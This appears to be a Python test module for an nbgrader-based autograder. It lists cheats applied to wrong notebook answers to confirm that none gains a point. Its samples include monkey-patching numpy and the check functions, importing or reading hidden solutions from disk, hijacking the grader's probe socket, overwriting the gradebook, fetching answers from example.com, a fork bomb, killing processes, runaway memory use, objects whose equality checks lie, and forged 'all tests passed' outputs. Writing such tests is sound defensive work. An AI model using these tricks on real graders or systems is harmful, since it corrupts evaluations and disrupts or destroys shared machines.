"""Tricks a student might try to score without right answers. None may gain a point.

Each cheat is added to a submission whose answers are wrong (the first mutant
of every exercise); the grade must not exceed that of the same wrong answers
without the trick. Code cheats are appended to every answer cell, so they run
after the student's definitions and before every test; notebook cheats
change the notebook's structure instead.

Tricks on answers and tests are tried on every notebook, since each notebook's
hidden tests judge in their own way. Tricks on the sandbox (files, network,
processes, memory, time) do not depend on the notebook, and are tried on two
of different kinds: functions (01) and classes with stand-ins (06).
"""
import copy
from dataclasses import dataclass
from typing import Callable

SANDBOX_NOTEBOOKS = ("01_derivatives", "06_building_blocks")
import nbformat
from nbgrader import utils as nbutils



# How a student who read kernel_side/boot.py reaches the probe: the kernel's event loop holds the
# stream of the socket it binds (the guard refuses gc.get_objects, which would be the other way).
FIND_THE_PROBE = '''
def _probe_stream():
    import zmq
    from tornado.ioloop import IOLoop
    for _fileobj, _handler in list(IOLoop.current().handlers.values()):
        stream = getattr(_handler, "__self__", None)
        if hasattr(stream, "socket") and stream.socket.get(zmq.LAST_ENDPOINT).endswith(b"-probe"):
            return stream
    raise LookupError("no probe socket")
'''

@dataclass(frozen=True)
class Cheat:
    name: str
    code: str = ""                    # appended to every answer cell
    transform: Callable = None        # or a change to the whole notebook
    notebooks: tuple = ()             # the notebooks it is tried on (none named: all of them)
    needs_bwrap: bool = False         # too harmful to try where bubblewrap does not contain it

    def applies_to(self, name):
        return not self.notebooks or name in self.notebooks

    def apply(self, nb, out=""):
        """The notebook with the trick; `out` (the grading output folder) stands in for __OUT__ in the code."""
        nb = copy.deepcopy(nb)
        if self.transform is not None:
            return self.transform(nb)
        for cell in nb.cells:
            if nbutils.is_solution(cell):
                cell.source = cell.source + "\n\n" + self.code.replace("__OUT__", str(out))
        return nb


def hidden_modules():
    """Every module whose code answers exercises: what the registry names, and all that is on disk."""
    import pkgutil

    from .. import reference, registry, stand_ins
    found = {f"{package.__name__}.{module.name}" for package in (reference, stand_ins)
             for module in pkgutil.iter_modules(package.__path__)}
    found |= {f"autograder.reference.{notebook.reference}" for notebook in registry.NOTEBOOKS}
    found |= {module for notebook in registry.NOTEBOOKS for module in notebook.publishes}
    return sorted(found)


def _drop_test_cells(nb):
    nb.cells = [c for c in nb.cells if not nbutils.is_grade(c)]
    return nb


def _empty_test_cells(nb):
    for cell in nb.cells:
        if nbutils.is_grade(cell):
            cell.source = "pass"
    return nb


def _ungrade_test_cells(nb):
    """Mark test cells as ordinary, unlocked cells worth a lot, and empty them."""
    for cell in nb.cells:
        if nbutils.is_grade(cell):
            cell.metadata.nbgrader.update(grade=False, locked=False, points=100)
            cell.source = "print('all tests passed')"
    return nb


CODE_CHEATS = [
    Cheat("patch numpy and the checks", '''
import numpy as _np, numpy.testing as _npt, dlscratch.checks as _checks
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
_np.array_equal = lambda *a, **k: True
_npt.assert_allclose = lambda *a, **k: None
_npt.assert_array_almost_equal = lambda *a, **k: None
_checks.check_close = lambda *a, **k: None
_checks.check_true = lambda *a, **k: None
check_close = check_true = lambda *a, **k: None
'''),
    Cheat("patch math and builtins", '''
import math as _math, builtins as _builtins
_math.isclose = lambda *a, **k: True
_builtins.abs = lambda x: 0.0
_builtins.all = lambda x: True
_builtins.AssertionError = type("AssertionError", (Exception,), {})
'''),
    Cheat("import the reference package", '''
try:
    import importlib as _il
    for _name in __HIDDEN_MODULES__:
        try:
            _ref = _il.import_module(_name)
            globals().update({k: v for k, v in vars(_ref).items() if callable(v) and not k.startswith("_")})
        except ImportError as _error:
            print("cheat: no", _name, _error)
except Exception as _error:
    print("cheat failed:", _error)
'''.replace("__HIDDEN_MODULES__", repr(hidden_modules()))),
    Cheat("patch the reference package in sys.modules", '''
import sys as _sys, types as _types
for _name in ("autograder", "autograder.reference", "autograder.judge", "dlscratch.checks"):
    _fake = _types.ModuleType(_name)
    _fake.__getattr__ = lambda attr: (lambda *a, **k: None)
    _sys.modules[_name] = _fake
'''),
    Cheat("read solutions and hidden tests from disk", '''
import os as _os, json as _json
_found = []
for _root in ("/", "/work", "/home", "/root", "/tmp", _os.path.expanduser("~"), "..", "../.."):
    try:
        for _dirpath, _dirs, _files in _os.walk(_root):
            _found += [_os.path.join(_dirpath, f) for f in _files if f.endswith((".ipynb", ".py"))
                       and ("solution" in _dirpath or "reference" in _dirpath or "autograder" in _dirpath)]
            if len(_found) > 50:
                break
    except Exception:
        pass
for _path in _found:
    try:
        _text = open(_path).read()
        if _path.endswith(".ipynb"):
            _text = "\\n".join("".join(c["source"]) for c in _json.loads(_text)["cells"] if c["cell_type"] == "code"
                              and "BEGIN SOLUTION" in "".join(c["source"]))
        exec(_text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
    except Exception:
        pass
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("replace the grader's probe", FIND_THE_PROBE + '''
try:
    _stream = _probe_stream()
    _stream.on_recv(lambda parts, _socket=_stream.socket: _socket.send_multipart([parts[0], parts[1], b'{"ok": true}']),
                    copy=False)
except Exception as _error:
    print("cheat:", _error)
'''),
    Cheat("write to the gradebook and the grading folders", '''
import os as _os, glob as _glob
for _pattern in ("/**/gradebook.db", "../../**/gradebook.db", "/tmp/**/*.db"):
    try:
        for _path in _glob.glob(_pattern, recursive=True):
            with open(_path, "wb") as _f:
                _f.write(b"0")
    except Exception as _error:
        print("cheat:", _error)
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("reach the network", '''
try:
    import urllib.request as _url
    _url.urlopen("http://example.com/answers.py", timeout=3).read()
except Exception as _error:
    print("cheat:", _error)
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("fork bomb", '''
import os as _os
try:
    for _ in range(1000):
        if _os.fork() == 0:
            while True:
                pass
except Exception as _error:
    print("cheat:", _error)
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("kill the kernel", '''
import os as _os
_os._exit(0)
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("kill other processes", '''
import os as _os, signal as _signal
for _pid in (-1, _os.getppid(), 1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except Exception as _error:
        print("cheat:", _error)
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("loop forever, deaf to interrupts", '''
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
''', notebooks=SANDBOX_NOTEBOOKS),
    Cheat("allocate memory without bound", '''
_hoard = []
while True:
    _hoard.append(bytearray(50 * 2**20))
''', notebooks=SANDBOX_NOTEBOOKS),
]

# Answers that lie about themselves, from other graders' bug trackers: each replaces every function
# the student defined with one that returns the liar.
_REPLACE_ANSWERS = '''
for _name, _value in list(globals().items()):
    if callable(_value) and getattr(_value, "__module__", None) == "__main__" and not _name.startswith("_") \\
            and not isinstance(_value, type):
        globals()[_name] = lambda *args, _liar=_liar, **kwargs: _liar()
'''

LYING_ANSWERS = [
    Cheat("answers equal to everything", '''
class _Equal:
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self):
        return True
_liar = _Equal
''' + _REPLACE_ANSWERS),
    Cheat("an ndarray subclass that lies", '''
import numpy as _np
class _Liar(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(_np.shape(other), bool)
    __ne__ = lambda self, other: _np.zeros(_np.shape(other), bool)
    def __sub__(self, other):
        return _np.zeros(_np.shape(other)).view(_Liar)
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self):
        return _np.zeros(self.shape)
    def __array__(self, *args, **kwargs):
        return _np.zeros(self.shape)
    def tobytes(self, *args, **kwargs):
        return _np.ones(self.shape).tobytes()
    def astype(self, *args, **kwargs):
        return self
_liar = lambda: _np.full(3, 12345.0).view(_Liar)
''' + _REPLACE_ANSWERS),
    Cheat("numbers whose __array__ and __float__ lie", '''
class _Lies:
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros(3)
    def __float__(self):
        return 0.0
    __int__ = __index__ = lambda self: 0
    def __len__(self):
        return 3
    def __getitem__(self, index):
        return 0.0
_liar = _Lies
''' + _REPLACE_ANSWERS),
]

ENDING_AND_HIDING = [
    Cheat("exit inside an answer", '''
import sys as _sys, os as _os
def _leave(*args, **kwargs):
    try:
        _sys.exit(0)
    finally:
        _os._exit(0)
_liar = lambda: _leave()
''' + _REPLACE_ANSWERS, notebooks=("01_derivatives", "06_building_blocks")),
    Cheat("silence tracebacks", '''
import sys as _sys, traceback as _traceback
_sys.excepthook = lambda *args: None
_traceback.format_exception = lambda *args, **kwargs: ["all tests passed"]
_traceback.format_exc = lambda *args, **kwargs: "all tests passed"
_traceback.extract_tb = lambda *args, **kwargs: []
try:
    get_ipython().showtraceback = lambda *args, **kwargs: print("All tests passed!")
except NameError:
    pass
''', notebooks=("01_derivatives", "06_building_blocks")),
]

NOTEBOOK_CHEATS = [
    Cheat("delete the test cells", transform=_drop_test_cells),
    Cheat("empty the test cells", transform=_empty_test_cells),
    Cheat("turn test cells into ordinary cells", transform=_ungrade_test_cells),
]

def _forge_passing_outputs(nb):
    """Every test cell comes with outputs that say it passed, and prints so too."""
    for cell in nb.cells:
        if nbutils.is_grade(cell):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed!\n"),
                            nbformat.v4.new_output("execute_result", data={"text/plain": str(cell.metadata.nbgrader["points"])},
                                                   execution_count=1)]
        elif nbutils.is_solution(cell):
            cell.source += "\nprint('All tests passed!')\n"
    return nb


NOTEBOOK_CHEATS.append(Cheat("forge outputs that say all tests passed", transform=_forge_passing_outputs))

ALL = CODE_CHEATS + LYING_ANSWERS + ENDING_AND_HIDING + NOTEBOOK_CHEATS
